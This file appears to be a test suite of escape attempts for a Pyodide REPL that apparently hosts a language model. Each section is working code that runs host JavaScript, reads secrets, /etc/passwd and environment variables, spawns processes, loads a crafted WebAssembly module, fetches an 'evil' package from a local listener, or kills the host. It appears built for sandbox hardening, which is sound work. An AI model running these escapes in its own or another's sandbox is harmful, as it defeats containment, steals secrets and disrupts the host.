# Ways out of a Pyodide REPL, one section each: "#: GOAL name", then the code, which leaves its booty in `res`.
# GOAL: JS code executed, FILE read, FILEW written, NET connection, PROC process, ENV, STDIN, KILL of the host, INFO raw memory.
# __CANARY_DIR__ holds canary.txt, __PORT__ is a local listener. The long hex text is a WebAssembly side module whose
# EM_JS string the loader would evaluate.

#: JS js.process
import js
res=str(js.process.env.RLM_SECRET)+' '+str(js.process.version)

#: JS js.process.binding
import js
res='JSEXEC:42 '+str(js.process.binding('fs'))

#: FILE js.process.getBuiltinModule(fs)
import js
res=js.process.getBuiltinModule('fs').readFileSync('__CANARY_DIR__/canary.txt','utf8')

#: FILE js.require(fs)
import js
res=js.require('fs').readFileSync('__CANARY_DIR__/canary.txt','utf8')

#: PROC js.require(child_process)
import js
res=js.require('child_process').execSync('echo PROC-OWNED').toString()

#: JS run_js
from pyodide.code import run_js
res=run_js("'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")

#: JS _pyodide run_js via pyodide._run_js
from pyodide._run_js import run_js
res=run_js("'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")

#: JS js.eval
import js
res=js.eval("'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")

#: JS js.Function
import js
res=js.Function.new("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS js.Object.constructor
import js
res=js.Object.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS js.constructor.constructor
import js
res=js.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS js dynamic import via eval
from pyodide.code import run_js
res='JSEXEC:42 '+str(run_js("import('node:fs')"))

#: NET js.fetch
import js
res=str(js.fetch('http://127.0.0.1:__PORT__/jsfetch'))

#: NET js.WebSocket
import js
res=str(js.WebSocket.new('ws://127.0.0.1:__PORT__/ws'))

#: JS js.BroadcastChannel
import js
js.BroadcastChannel.new('x'); res='JSEXEC:42 BroadcastChannel'

#: FILE pyodide_js.mountNodeFS
import pyodide_js, os
pyodide_js.mountNodeFS('/mnt0','__CANARY_DIR__')
res=open('/mnt0/canary.txt').read()

#: FILE pyodide_js.FS NODEFS
import pyodide_js, os
from pyodide.ffi import to_js
from js import Object
os.makedirs('/mnt1',exist_ok=True)
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, to_js({'root':'__CANARY_DIR__'},dict_converter=Object.fromEntries), '/mnt1')
res=open('/mnt1/canary.txt').read()

#: FILEW pyodide_js._module.FS NODEFS write
import pyodide_js, os
os.makedirs('/mnt2',exist_ok=True)
pyodide_js.mountNodeFS('/mnt2','__CANARY_DIR__')
open('/mnt2/pwned_write','w').write('x')
res='wrote'

#: JS pyodide_js._api
import pyodide_js
res=pyodide_js._api.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: NET pyodide_js.loadPackage url
import pyodide_js
res=str(pyodide_js.loadPackage('http://127.0.0.1:__PORT__/evil-1.0-py3-none-any.whl'))

#: NET micropip
import micropip
res=str(micropip.install('http://127.0.0.1:__PORT__/evil-1.0-py3-none-any.whl'))

#: JS _importhook.jsfinder
from _pyodide._importhook import jsfinder
res=jsfinder.jsproxies['js'].constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS sys.meta_path walk
import sys
f=[x for x in sys.meta_path if hasattr(x,'jsproxies')][0]
res=list(f.jsproxies.values())[0].constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS reimport js after del
import sys,importlib
for k in list(sys.modules):
    if k.startswith(('js','pyodide')): del sys.modules[k]
import js
res=js.eval("'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")

#: JS gc scan for JsProxy
import gc
res='none'
for o in gc.get_objects():
    t=type(o)
    if 'JsProxy' in t.__name__ or t.__module__ in ('pyodide.ffi','_pyodide_core'):
        try:
            res=o.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")(); break
        except Exception as e: res=repr(e)

#: JS gc referents deep scan
import gc,sys
seen=set(); st=list(sys.modules.values())+[object]; res='none'
n=0
while st and n<400000:
    o=st.pop(); n+=1
    if id(o) in seen: continue
    seen.add(id(o))
    if type(o).__name__=='JsProxy':
        try:
            res=o.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")(); break
        except Exception as e: res=repr(e)
    st.extend(gc.get_referents(o))

#: JS host fn .constructor
res=llm_query.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS host fn closure cells
f=llm_query
res='none'
for c in (getattr(f,'__closure__',None) or ()):
    res=c.cell_contents.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS host fn globals/defaults
f=llm_query
res='none'
for v in list(getattr(f,'__globals__',{}).values())+list(getattr(f,'__defaults__',None) or ()):
    if type(v).__name__=='JsProxy':
        res=v.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")(); break

#: JS host fn error -> JsException.js_error
from pyodide.ffi import JsException
res='none'
try:
    llm_query(10**30, object(), 5)
except BaseException as e:
    res=repr(e)
    if isinstance(e,JsException): res=e.js_error.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS to_js list -> constructor
from pyodide.ffi import to_js
res=to_js([1,2]).constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS create_proxy -> constructor
from pyodide.ffi import create_proxy
res=create_proxy(lambda:1).constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS _pyodide_core builtin
import _pyodide_core
res='core '+str(dir(_pyodide_core))[:200]
from _pyodide_core import to_js
res=to_js([1]).constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS _imp.create_builtin(_pyodide_core)
import sys,_imp
from importlib.machinery import ModuleSpec
sys.modules.pop('_pyodide_core',None)
m=_imp.create_builtin(ModuleSpec('_pyodide_core',None))
res=m.to_js([1]).constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: JS webloop scheduleCallback
import pyodide.webloop as w
res=w.scheduleCallback.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()

#: NET pyodide.http open_url
from pyodide.http import open_url
res=open_url('http://127.0.0.1:__PORT__/openurl').read()

#: NET pyodide.http pyfetch
from pyodide.http import pyfetch
import asyncio
t=asyncio.ensure_future(pyfetch('http://127.0.0.1:__PORT__/pyfetch'))
res=str(t)

#: NET urllib
import urllib.request
res=urllib.request.urlopen('http://127.0.0.1:__PORT__/urllib',timeout=2).read().decode()

#: NET socket
import socket
s=socket.create_connection(('127.0.0.1',__PORT__),2); s.send(b'GET / HTTP/1.0\r\n\r\n'); res=str(s)

#: NET useNodeSockFS + socket
import pyodide_js, socket
pyodide_js.useNodeSockFS()
s=socket.socket(); s.setblocking(False)
try: s.connect(('127.0.0.1',__PORT__))
except BlockingIOError: pass
res='tried'

#: NET webbrowser
import webbrowser
res=str(webbrowser.open('http://127.0.0.1:__PORT__/wb'))

#: PROC subprocess
import subprocess
res=subprocess.run('echo PROC-OWNED',shell=True,capture_output=True,text=True).stdout

#: PROC os.system
import os
res='rc '+str(os.system('touch __CANARY_DIR__/pwned_system'))

#: PROC os.popen
import os
res=os.popen('echo PROC-OWNED').read()

#: PROC os.fork/exec/posix_spawn
import os
res='none'
for f in ('fork','execv','posix_spawn','spawnv'):
    try: res=str(getattr(os,f)); getattr(os,f)(*(['/bin/touch',['touch','__CANARY_DIR__/pwned_exec'],{}][:2] if f!='fork' else []))
    except BaseException as e: res=repr(e)

#: PROC _posixsubprocess.fork_exec
import _posixsubprocess
res=str(_posixsubprocess)

#: PROC ctypes system()
import ctypes
res='rc '+str(ctypes.CDLL(None).system(b'touch __CANARY_DIR__/pwned_ctypes'))

#: JS ctypes emscripten_run_script
import ctypes
f=ctypes.CDLL(None).emscripten_run_script_string; f.restype=ctypes.c_char_p
res=f(b"'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')").decode()

#: JS ctypes pythonapi
import ctypes
f=ctypes.pythonapi.emscripten_run_script_string; f.restype=ctypes.c_char_p
res=f(b"'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')").decode()

#: JS ctypes hiwire/JsProxy_create(jsglobals)
import ctypes
L=ctypes.pythonapi
L.JsProxy_create.restype=ctypes.py_object
res='n'
for i in range(0,40):
    try:
        o=L.JsProxy_create(ctypes.c_int(i))
        res=o.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")(); break
    except BaseException as e: res=repr(e)

#: JS _ctypes.dlopen/dlsym
import _ctypes
h=_ctypes.dlopen(None,0)
res='JSEXEC:42 dlsym '+str(_ctypes.dlsym(h,'emscripten_run_script'))

#: JS dlopen crafted EM_JS side module
open('/tmp/pwn.so','wb').write(bytes.fromhex('0061736d01000000000f0864796c696e6b2e3001044a00000002240203656e76066d656d6f727902000103656e760d5f5f6d656d6f72795f62617365037f000606017f0041000b0710010c5f5f656d5f6a735f5f70776e03010b50010023000b4a28766f6964293c3a3a3e303b20676c6f62616c546869732e5f5f70776e65645f62795f646c6f70656e203d20274a53455845433a34323a27202b20747970656f662070726f6365737300'))
import ctypes
try:
    ctypes.CDLL('/tmp/pwn.so')
except BaseException as e: print(repr(e))
import js
res=str(js.__pwned_by_dlopen)

#: JS import crafted .so (ExtensionFileLoader)
open('/tmp/pwn.so','wb').write(bytes.fromhex('0061736d01000000000f0864796c696e6b2e3001044a00000002240203656e76066d656d6f727902000103656e760d5f5f6d656d6f72795f62617365037f000606017f0041000b0710010c5f5f656d5f6a735f5f70776e03010b50010023000b4a28766f6964293c3a3a3e303b20676c6f62616c546869732e5f5f70776e65645f62795f646c6f70656e203d20274a53455845433a34323a27202b20747970656f662070726f6365737300'))
import importlib.machinery as m, importlib.util as u
s=u.spec_from_file_location('pwn','/tmp/pwn.so',loader=m.ExtensionFileLoader('pwn','/tmp/pwn.so'))
try: u.module_from_spec(s)
except BaseException as e: res=repr(e)

#: INFO raw wasm memory read/write (from_address)
import ctypes
res='MEM '+hex(ctypes.c_uint32.from_address(1024).value)

#: FILE read host file direct
res=open('__CANARY_DIR__/canary.txt').read()

#: FILE list root / proc / passwd
import os
res=str(os.listdir('/'))
for p in ('/etc/passwd','/proc/self/environ','/proc/self/cmdline'):
    try: res+=open(p).read()
    except OSError as e: res+=' '+p+':'+str(e.errno)

#: ENV os.environ leak
import os
res=str(dict(os.environ))

#: FILE symlink out of MEMFS
import os
os.symlink('__CANARY_DIR__/canary.txt','/tmp/lnk')
res=open('/tmp/lnk').read()

#: FILE mknod device
import os,stat
os.mknod('/tmp/dv',0o666|stat.S_IFCHR,os.makedev(5,0))
res=str(os.read(os.open('/tmp/dv',os.O_RDONLY),10))

#: STDIN stdin of host
import sys,os
res='STDIN '+repr(os.read(0,64))

#: STDIN input()
res='STDIN '+repr(input())

#: JS frame walk to bootstrap globals
import sys
f=sys._getframe(); res='none'
while f:
    for d in (f.f_locals,f.f_globals):
        for k,v in list(d.items()):
            if type(v).__name__=='JsProxy':
                try: res=v.constructor.constructor("return 'JSEXEC:' + (6*7) + ':' + typeof process + ':' + (typeof process==='object'&&process.env?process.env.RLM_SECRET:'')")()
                except Exception as e: res=repr(e)
    f=f.f_back

#: JS object subclasses walk
res='none'
for c in object.__subclasses__():
    if c.__name__ in('JsProxy','JsBuffer'):
        for s in [c]+c.__subclasses__():
            res=repr(s)
import pyodide.ffi as F
res=F.JsProxy.new("return 1")

#: KILL os._exit kills host?
import os
os._exit(7)
res='still here'

#: KILL os.abort
import os
os.abort()
res='still here'

#: KILL js.process.exit
import js
js.process.exit(9)
res='x'

#: KILL js.process.kill(ppid)
import js
js.process.kill(js.process.pid, 0)
res='JSEXEC:42 can signal'

#: KILL os.kill
import os,signal
res=str(os.kill(os.getpid(),signal.SIGTERM))

#: KILL memory corruption -> crash only
import ctypes
ctypes.memset(0,255,10**7)
res='still here'
